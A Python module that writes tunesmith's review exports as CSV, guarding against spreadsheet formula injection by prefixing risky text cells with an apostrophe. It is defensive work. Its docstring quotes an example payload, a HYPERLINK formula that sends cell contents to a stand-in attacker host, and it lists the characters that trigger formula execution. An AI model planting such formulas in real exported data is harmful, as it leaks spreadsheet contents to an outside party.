"""CSV that a person opens in a spreadsheet, safe from formula injection: the one writer of tunesmith's CSV
exports (`tunesmith review export --format csv`).

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula, so a model's answer, a prompt or a reviewer's comment like
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run on the reviewer's machine. As OWASP advises, such a
text cell is written with a leading ``'`` (`FORMULA_STARTS`): the spreadsheet shows the text, and a program
reading the CSV finds the apostrophe in front of it.

Numbers stay numbers only where the column holds numbers: a value that is an ``int`` or ``float`` (an item id, a
score) is written as it is, ``-1`` included; a text that looks like a number (``"-1"`` in a comment) is text and
gets its apostrophe, as a spreadsheet would otherwise compute with it.

Lines end in CRLF (RFC 4180, as spreadsheets write CSV): the csv module quotes a cell holding a character of the
line ending, so a comment with a lone carriage return inside reads back as one cell of one row, not two rows.

Not for data files: `tunesmith data clean` writes the user's own training rows back as it read them, since an
apostrophe there would change the text a model learns from.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a text cell must not start with (OWASP's list for CSV injection)."""


def spreadsheet_cell(value: object) -> object:
    """``value`` as a spreadsheet may read it: a text starting with one of `FORMULA_STARTS` with ``'`` before it;
    numbers, None (an empty cell) and any other text as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_csv(columns: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """CSV text: a header of ``columns``, then one CRLF-ended line per row (a missing key is an empty cell), every cell
    through `spreadsheet_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(column) for column in columns])
    writer.writerows([spreadsheet_cell(row.get(column)) for column in columns] for row in rows)
    return buffer.getvalue()
